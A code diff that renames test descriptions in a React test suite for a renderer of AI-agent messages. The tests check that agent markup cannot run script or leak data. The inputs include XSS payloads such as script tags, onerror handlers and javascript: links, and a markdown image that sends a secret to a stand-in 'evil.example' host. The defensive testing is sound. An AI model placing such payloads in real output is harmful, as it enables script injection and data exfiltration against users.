@@ -21,12 +21,12 @@ describe("renderMessageContent", () => {
     props: { id, args: { ...args }, status: "done" as const },
   });
 
-  it("draws Markdown: headings, tables, lists, code", () => {
+  it("renders Markdown: headings, tables, lists, code", () => {
     const box = draw("# Plan\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n`code` ~~old~~");
     for (const tag of ["h1", "table", "td", "li input", "code", "del"]) expect(box.querySelector(tag)).not.toBeNull();
   });
 
-  it("lets nothing run that an agent writes", () => {
+  it("executes nothing that an agent writes", () => {
     const box = draw(
       "<script>alert(1)</script><img src=x onerror=alert(1)> [run](javascript:alert(1)) [data](data:text/html,x) ![i](javascript:x)",
     );
@@ -34,7 +34,7 @@ describe("renderMessageContent", () => {
     expect(box.innerHTML).not.toMatch(/<img[^>]*onerror|href="(javascript|data):|src="javascript:/);
   });
 
-  it("opens links apart, without telling them where from", () => {
+  it("opens links in a new tab without a referrer", () => {
     draw("[the registry](https://example.org/a)");
     const link = screen.getByRole("link", { name: "the registry" });
     expect(link.getAttribute("href")).toBe("https://example.org/a");
@@ -43,21 +43,21 @@ describe("renderMessageContent", () => {
     expect(link.getAttribute("rel")).toContain("noreferrer");
   });
 
-  it("draws components where they were said, and nothing for those that it does not know", () => {
+  it("renders components in their places, and nothing for unknown ones", () => {
     const unknown = { name: "Unknown", props: { id: "u", args: {} } };
     const box = draw(["Before", stove("1", { name: "Jiko" }), unknown, "After"]);
     expect(box.textContent).toBe("BeforeJiko done falseAfter");
     expect(draw(stove("2", { name: "Mbaula" })).textContent).toBe("Mbaula done false");
   });
 
-  it("takes only the app's own names for components: what every object has is none", () => {
+  it("accepts only the app's component names, not inherited ones such as constructor", () => {
     for (const name of ["constructor", "toString", "__proto__", "hasOwnProperty"]) {
       for (const kind of [{}, { isToolCall: true }, { isAgAction: true }])
         expect(draw([{ name, props: { id: name, args: {}, ...kind } }, "After"]).textContent).toBe("After");
     }
   });
 
-  it("keeps the thread when one component cannot draw what it was given, and draws it again with other arguments", () => {
+  it("keeps the thread when a component throws, and renders it again with other arguments", () => {
     const content = (amount: unknown): MessageContent => [
       "Before",
       { name: "Fragile", props: { id: "f", args: { amount } } },
@@ -69,7 +69,7 @@ describe("renderMessageContent", () => {
     expect(container.textContent).toBe("Before5After");
   });
 
-  it("gives a component nothing that React would take for its own", () => {
+  it("passes a component no props that React reserves", () => {
     const args = { ref: "r", key: "k", dangerouslySetInnerHTML: { __html: "<img src=x>" }, title: "t" };
     const box = render(
       <div>{renderMessageContent({ name: "Open", props: { id: "o", args } }, { Open })}</div>,
@@ -77,7 +77,7 @@ describe("renderMessageContent", () => {
     expect(box.innerHTML).toBe('<div><i title="t" id="o"></i></div>');
   });
 
-  it("fetches no picture that an agent names: it is a link that a person may open", () => {
+  it("loads no image that an agent names, and shows a link instead", () => {
     const box = draw("![the stove](https://evil.example/?q=secret) ![](https://evil.example/pixel.png)");
     expect(box.querySelector("img")).toBeNull();
     const [named, blank] = screen.getAllByRole("link");
@@ -85,7 +85,7 @@ describe("renderMessageContent", () => {
     expect(blank?.textContent).toBe("https://evil.example/pixel.png");
   });
 
-  it("does not let the agent's arguments stand for what the SDK says", () => {
+  it("does not let the agent's arguments replace the SDK's props", () => {
     expect(draw(stove("3", { name: "Jiko", status: "paid", isLoading: true })).textContent).toBe("Jiko done false");
   });
 });
